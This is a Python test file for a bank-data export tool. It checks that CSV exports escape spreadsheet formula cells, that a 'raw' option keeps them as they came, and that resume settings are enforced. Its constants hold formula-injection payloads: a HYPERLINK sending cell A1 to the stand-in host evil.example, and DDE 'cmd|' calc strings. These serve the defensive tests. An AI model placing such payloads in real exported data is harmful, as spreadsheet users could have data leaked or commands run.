"""Spreadsheet formulas in CSV exports (docs/export.md#csv-and-spreadsheets): text from the service
that a spreadsheet would run (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)``, ``-2+3...``, a
leading tab or carriage return) lands in a CSV part file with a leading ``'``, with pyarrow and
without it, from ``bf.export`` and from the command; ``csv_formulas="raw"`` (``--csv-formulas
raw``) keeps every cell as it came. Numbers, a negative amount among them, are never changed, and
Parquet files hold the text as it came. The service is a stub answering account detail in the
recorded shape with hostile text in it (``recordedserver``, its values changed, never its keys)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("pyarrow")

import pyarrow.dataset

import bankfeed as bf
from recordedserver import CUSTOMER, MINTED, Recorded, RecordedServer, serving

#: What the hostile detail puts where, as the service would pass it on: text fields of an account
#: and of its transaction, and two negative amounts.
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Statement")'
DESCRIPTION = "+cmd|' /C calc'!A0"
CODE = "@SUM(1+1)*cmd|' /C calc'!A0"
ACCOUNT_NUMBER = "-2+3+cmd|' /C calc'!A0"
CATEGORY = "\t=1+1"
TYPE = "\r=1+1"
#: Text with a formula character that is not its first: left alone.
HARMLESS = "SALARY = 2 x 1000"
DEBIT = -42.1
BALANCE = -1207.9

#: Each hostile cell, by (table, column), as it must land escaped.
ESCAPED = {
    ("accounts", "title"): "'" + TITLE,
    ("accounts", "account_number"): "'" + ACCOUNT_NUMBER,
    ("accounts", "category"): "'" + CATEGORY,
    ("accounts", "type"): "'" + TYPE,
    ("transactions", "account_title"): "'" + TITLE,
    ("transactions", "description"): "'" + DESCRIPTION,
    ("transactions", "code"): "'" + CODE,
}
RAW = {key: value[1:] for key, value in ESCAPED.items()}


def expected(values: dict[tuple[str, str], str]) -> dict[tuple[str, str], set[str]]:
    """The cells of each hostile column: ``values``, and the harmless description of the first
    account's transaction."""
    found = {key: {value} for key, value in values.items()}
    found["transactions", "description"].add(HARMLESS)
    return found


def hostile_detail(name: str, body: Any) -> None:
    """Account detail's accounts and transactions carrying the hostile values."""
    if name != "accounts-detail-200":
        return
    for account in body["Accounts"]:
        account.update(Title=TITLE, AccountNumber=ACCOUNT_NUMBER, Category=CATEGORY, Type=TYPE)
        for transaction in account["Transactions"]:
            transaction.update(Description=DESCRIPTION, Code=CODE, Debit=DEBIT, Balance=BALANCE)
    body["Accounts"][0]["Transactions"][0]["Description"] = HARMLESS


@pytest.fixture(scope="module")
def stub() -> Iterator[RecordedServer]:
    with serving(Recorded(change_values=hostile_detail)) as server:
        yield server


def client_of(stub: RecordedServer) -> bf.Client:
    return bf.Client(stub.url, CUSTOMER, poll_interval=0.01, max_retries=0)


LOGINS = list(MINTED[:2])


def rows(out: Path, table: str) -> list[dict[str, str]]:
    """The rows of a CSV table as a spreadsheet's import reads its cells: text, as written."""
    files = sorted((out / "accounts" / table).rglob("part-*.csv"))
    assert files, f"no CSV part file in {out}/accounts/{table}"
    found: list[dict[str, str]] = []
    for file in files:
        with file.open(newline="", encoding="utf-8") as text:
            found.extend(csv.DictReader(text))
    return found


def cells(out: Path) -> dict[tuple[str, str], set[str]]:
    """The cells of each hostile column, by (table, column)."""
    tables = {name: rows(out, name) for name in ("accounts", "transactions")}
    return {(table, column): {row[column] for row in tables[table]} for table, column in ESCAPED}


def assert_numbers_as_they_came(out: Path) -> None:
    transactions = rows(out, "transactions")
    assert {float(row["debit"]) for row in transactions} == {DEBIT}
    assert {float(row["balance"]) for row in transactions} == {BALANCE}
    assert {row["debit"] for row in transactions} == {"-42.1"}, "a negative amount is written as a number"


def written_with(
    stub: RecordedServer, out: Path, monkeypatch: pytest.MonkeyPatch, pyarrow_too: bool, **options: Any
) -> None:
    if not pyarrow_too:
        monkeypatch.setitem(sys.modules, "pyarrow", None)  # `import pyarrow` fails, as on a bare machine
    try:
        report = bf.export(client_of(stub), LOGINS, out, what=["accounts"], format="csv", **options)
    finally:
        monkeypatch.undo()
    assert (report.logins_written, report.logins_failed) == (len(LOGINS), 0), report.failed


@pytest.mark.parametrize("pyarrow_too", [True, False], ids=["with-pyarrow", "without-pyarrow"])
def test_formula_cells_land_escaped_and_numbers_unchanged(
    stub: RecordedServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pyarrow_too: bool
) -> None:
    written_with(stub, tmp_path, monkeypatch, pyarrow_too)
    # A formula character further in (the harmless description) is left alone.
    assert cells(tmp_path) == expected(ESCAPED)
    assert_numbers_as_they_came(tmp_path)
    # The provenance columns, text too, start with no such character and are as they were.
    assert {row["login_id"] for row in rows(tmp_path, "accounts")} == set(LOGINS)


@pytest.mark.parametrize("pyarrow_too", [True, False], ids=["with-pyarrow", "without-pyarrow"])
def test_csv_formulas_raw_writes_every_cell_as_it_came(
    stub: RecordedServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pyarrow_too: bool
) -> None:
    written_with(stub, tmp_path, monkeypatch, pyarrow_too, csv_formulas="raw")
    assert cells(tmp_path) == expected(RAW)
    assert_numbers_as_they_came(tmp_path)


def test_the_async_form_escapes_as_well(stub: RecordedServer, tmp_path: Path) -> None:
    import asyncio

    async def main() -> bf.ExportReport:
        client = bf.AsyncClient(stub.url, CUSTOMER, poll_interval=0.01, max_retries=0)
        return await bf.aexport(client, LOGINS, tmp_path / "escaped", what=["accounts"], format="csv")

    assert asyncio.run(main()).logins_written == len(LOGINS)
    assert cells(tmp_path / "escaped") == expected(ESCAPED)


def test_parquet_keeps_the_text_as_it_came(stub: RecordedServer, tmp_path: Path) -> None:
    bf.export(client_of(stub), LOGINS, tmp_path, what=["accounts"])
    accounts = pyarrow.dataset.dataset(tmp_path / "accounts" / "accounts").to_table()
    transactions = pyarrow.dataset.dataset(tmp_path / "accounts" / "transactions").to_table()
    assert set(accounts.column("title").to_pylist()) == {TITLE}
    assert set(transactions.column("description").to_pylist()) == {DESCRIPTION, HARMLESS}


def test_a_wrong_csv_formulas_is_refused_naming_it(stub: RecordedServer, tmp_path: Path) -> None:
    for wrong in ("Escape", "none", None, True):
        with pytest.raises(bf.ConfigError) as raised:
            bf.export(client_of(stub), LOGINS, tmp_path, what=["accounts"], format="csv", csv_formulas=wrong)  # type: ignore[arg-type]
        assert raised.value.field == "csv_formulas" and repr(wrong) in str(raised.value)
    assert not tmp_path.joinpath("accounts").exists()


def command(stub: RecordedServer, out: Path, *flags: str) -> subprocess.CompletedProcess[str]:
    environment = {key: value for key, value in os.environ.items() if not key.startswith("BANKFEED_")}
    service_flags = ["--base-url", stub.url, "--customer-id", CUSTOMER, "--poll-interval", "0.01", "--quiet"]
    export = ["export", *LOGINS, "--out", str(out), "--what", "accounts", "--format", "csv", *service_flags, *flags]
    return subprocess.run(
        [sys.executable, "-m", "bankfeed", *export],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=environment,
        stdin=subprocess.DEVNULL,
    )


def test_the_command_escapes_by_default_and_keeps_them_raw_when_told(stub: RecordedServer, tmp_path: Path) -> None:
    escaped = command(stub, tmp_path / "escaped")
    assert escaped.returncode == 0, escaped.stderr
    assert cells(tmp_path / "escaped") == expected(ESCAPED)
    raw = command(stub, tmp_path / "raw", "--csv-formulas", "raw")
    assert raw.returncode == 0, raw.stderr
    assert cells(tmp_path / "raw") == expected(RAW)
    assert_numbers_as_they_came(tmp_path / "raw")
    wrong = command(stub, tmp_path / "wrong", "--csv-formulas", "off")
    assert wrong.returncode == 2 and "--csv-formulas" in wrong.stderr, wrong.stderr


def files_of(out: Path) -> set[Path]:
    return {path for path in out.rglob("*") if path.is_file()}


def refused_resume(stub: RecordedServer, out: Path, was: str, **options: Any) -> None:
    """Asserts that resuming the CSV export in ``out`` with ``options`` is refused naming
    ``csv_formulas`` and the way it ``was`` written, before anything is sent or written."""
    sent, files = len(stub.log), files_of(out)
    with pytest.raises(bf.ConfigError) as raised:
        bf.export(client_of(stub), LOGINS, out, what=["accounts"], format="csv", resume=True, **options)
    assert raised.value.field == "csv_formulas" and f"written with, {was!r}" in str(raised.value), raised.value
    assert (len(stub.log), files_of(out)) == (sent, files), "nothing was sent or written"


def test_a_resume_writing_cells_another_way_is_refused_before_anything_is_sent(
    stub: RecordedServer, tmp_path: Path
) -> None:
    escaped, raw = tmp_path / "escaped", tmp_path / "raw"
    bf.export(client_of(stub), LOGINS[:1], escaped, what=["accounts"], format="csv")
    bf.export(client_of(stub), LOGINS[:1], raw, what=["accounts"], format="csv", csv_formulas="raw")
    refused_resume(stub, escaped, "escape", csv_formulas="raw")
    refused_resume(stub, raw, "raw")  # the default, escape, is not how it was written
    on_command_line = command(stub, escaped, "--resume", "--csv-formulas", "raw")
    assert on_command_line.returncode == 2, on_command_line.stderr
    assert on_command_line.stderr.startswith("error: --csv-formulas: must be the one the export"), (
        on_command_line.stderr
    )
    # Asked as it was written, each goes on.
    again = bf.export(client_of(stub), LOGINS, raw, what=["accounts"], format="csv", resume=True, csv_formulas="raw")
    assert (again.logins_written, again.logins_skipped) == (1, 1)
    assert cells(raw) == expected(RAW)


def test_a_run_recorded_without_csv_formulas_wrote_them_escaped(stub: RecordedServer, tmp_path: Path) -> None:
    bf.export(client_of(stub), LOGINS[:1], tmp_path, what=["accounts"], format="csv")
    # As a run of an earlier version recorded itself.
    for record in (tmp_path / "_journal" / "runs").glob("*.json"):
        written = json.loads(record.read_text())
        assert written.pop("csv_formulas") == "escape"
        record.write_text(json.dumps(written))
    refused_resume(stub, tmp_path, "escape", csv_formulas="raw")
    report = bf.export(client_of(stub), LOGINS, tmp_path, what=["accounts"], format="csv", resume=True)
    assert (report.logins_written, report.logins_skipped) == (1, 1)


def test_a_parquet_export_resumes_whatever_csv_formulas_says(stub: RecordedServer, tmp_path: Path) -> None:
    bf.export(client_of(stub), LOGINS[:1], tmp_path, what=["accounts"])
    report = bf.export(client_of(stub), LOGINS, tmp_path, what=["accounts"], resume=True, csv_formulas="raw")
    assert (report.logins_written, report.logins_skipped) == (1, 1)
    titles = pyarrow.dataset.dataset(tmp_path / "accounts" / "accounts", format="parquet").to_table()
    assert set(titles.column("title").to_pylist()) == {TITLE}, "Parquet holds the text as it came"
